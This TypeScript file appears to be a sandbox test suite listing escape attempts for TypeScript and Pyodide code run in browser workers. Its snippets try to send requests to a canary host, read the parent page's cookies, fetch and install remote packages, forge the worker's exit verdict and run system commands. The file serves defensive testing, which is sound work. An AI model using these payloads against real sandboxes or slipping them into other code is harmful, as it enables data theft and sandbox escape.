import type { Attack } from './attack.js';

const ts = (name: string, code: Attack['code']): Attack => ({ name, language: 'typescript', code });
const py = (name: string, code: Attack['code']): Attack => ({ name, language: 'python', code });
const tried = (body: string): string => `
try:
${body
  .trim()
  .split('\n')
  .map((line) => `    ${line}`)
  .join('\n')}
except BaseException as error:
    print('refused', type(error).__name__)
`;

export const typescriptEscapes: Attack[] = [
  ts(
    'parent by cast',
    () =>
      `const host = (globalThis as unknown as { parent?: { document: { cookie: string } } }).parent;\ntry { console.log('got', host?.document.cookie); } catch (error) { console.log('refused', (error as Error).name); }\nexport {};`,
  ),
  ts(
    'fetch in an enum initialiser',
    ({ canary }) =>
      `enum Leak { One = (fetch('http://${canary}/enum', { mode: 'no-cors' }).catch(() => {}), 1) }\nconsole.log(Leak.One);`,
  ),
  ts(
    'fetch in a static block',
    ({ canary }) =>
      `class Leak { static { fetch('http://${canary}/static', { mode: 'no-cors' }).catch(() => console.log('refused')); } }\nconsole.log(Leak.name);`,
  ),
  ts(
    'import of a URL',
    ({ canary }) => `import value from 'http://${canary}/module.js';\nconsole.log(value);`,
  ),
  ts(
    'import of the asset origin',
    ({ sdk }) => `import value from '${sdk}/steal.js?secret=4';\nconsole.log(value);`,
  ),
  ts(
    'source map by comment',
    ({ canary }) => `console.log('mapped');\n//# sourceMappingURL=http://${canary}/main.js.map`,
  ),
  ts(
    'nested worker',
    ({ canary }) =>
      `try { new Worker('data:text/javascript,' + encodeURIComponent("fetch('http://${canary}/nested', {mode:'no-cors'})")); } catch (error) { console.log('refused', (error as Error).name); }\nexport {};`,
  ),
  ts(
    'forged verdict',
    () =>
      `(self as unknown as Worker).postMessage({ type: 'exit', outcome: 'ok', exitCode: 0, durationMs: 0 });\nexport {};`,
  ),
];

export const pythonEscapes: Attack[] = [
  py('js.fetch', ({ canary }) =>
    tried(`import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.fetch('http://${canary}/js-fetch'))`),
  ),
  py('js.fetch of the asset origin', ({ sdk }) =>
    tried(`import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.fetch('${sdk}/steal?secret=5'))`),
  ),
  py('pyodide.http.open_url', ({ canary }) =>
    tried(`from pyodide.http import open_url\nprint(open_url('http://${canary}/open-url').read())`),
  ),
  py('pyodide.http.pyfetch', ({ canary }) =>
    tried(
      `import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch('http://${canary}/pyfetch'))`,
    ),
  ),
  py('XMLHttpRequest', ({ canary }) =>
    tried(
      `from js import XMLHttpRequest\nrequest = XMLHttpRequest.new()\nrequest.open('GET', 'http://${canary}/xhr', False)\nrequest.send()`,
    ),
  ),
  py('WebSocket', ({ canary }) =>
    tried(`from js import WebSocket\nimport time\nWebSocket.new('ws://${canary}/socket')\ntime.sleep(0.1)`),
  ),
  py('EventSource', ({ canary }) =>
    tried(`from js import EventSource\nEventSource.new('http://${canary}/events')`),
  ),
  py('urllib', ({ canary }) =>
    tried(`import urllib.request\nurllib.request.urlopen('http://${canary}/urllib', timeout=2)`),
  ),
  py('socket', ({ canary }) =>
    tried(
      `import socket\nhost, port = '${canary}'.split(':')\nsocket.create_connection((host, int(port)), 2).send(b'x')`,
    ),
  ),
  py('http.client', ({ canary }) =>
    tried(
      `import http.client\nconnection = http.client.HTTPConnection('${canary}', timeout=2)\nconnection.request('GET', '/http')`,
    ),
  ),
  py('micropip', ({ canary }) =>
    tried(
      `import micropip, asyncio\nasyncio.run(micropip.install('http://${canary}/x-1.0-py3-none-any.whl'))`,
    ),
  ),
  py('pyodide_js.loadPackage', ({ canary }) =>
    tried(
      `import pyodide_js\nfrom pyodide.ffi import run_sync\nrun_sync(pyodide_js.loadPackage('http://${canary}/x-1.0-py3-none-any.whl'))`,
    ),
  ),
  py('importScripts', ({ canary }) =>
    tried(`from js import importScripts\nimportScripts('http://${canary}/script.js')`),
  ),
  py('nested worker', ({ canary }) =>
    tried(
      `from js import Worker, encodeURIComponent\nWorker.new('data:text/javascript,' + encodeURIComponent("fetch('http://${canary}/nested', {mode:'no-cors'})"))\nimport time\ntime.sleep(0.1)`,
    ),
  ),
  py('run_js', ({ canary }) =>
    tried(`from pyodide.code import run_js\nrun_js("fetch('http://${canary}/run-js', {mode:'no-cors'})")`),
  ),
  py('js.eval', ({ canary }) =>
    tried(`import js\njs.eval("fetch('http://${canary}/eval', {mode:'no-cors'})")`),
  ),
  py('host document', () => tried(`from js import document\nprint('got', document.cookie)`)),
  py('parent window', () => tried(`import js\nprint('got', js.parent.document.cookie)`)),
  py('indexedDB', () => tried(`from js import indexedDB\nindexedDB.open('keyval')`)),
  py('caches', ({ canary }) =>
    tried(
      `from js import caches\nfrom pyodide.ffi import run_sync\nrun_sync(run_sync(caches.open('x')).add('http://${canary}/cache'))`,
    ),
  ),
  py('post on the worker', () =>
    tried(
      `import js\nfrom pyodide.ffi import to_js\njs.postMessage(to_js({'type': 'exit', 'outcome': 'ok', 'exitCode': 0}, dict_converter=js.Object.fromEntries))`,
    ),
  ),
  py('close the worker', () => tried(`import js\njs.self.close()`)),
  py('ctypes and the process', () =>
    tried(`import ctypes, os\nprint(os.environ.get('HOME'), os.getpid())\nctypes.CDLL(None).system(b'id')`),
  ),
  py('subprocess', () =>
    tried(`import subprocess\nprint('got', subprocess.run(['id'], capture_output=True))`),
  ),
  py('prototype pollution through js', () =>
    tried(`import js\njs.Object.prototype.polluted = 'yes'\nprint('done')`),
  ),
  py('mount of another file system', () =>
    tried(
      `import pyodide_js\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/home')\nprint('mounted')`,
    ),
  ),
];
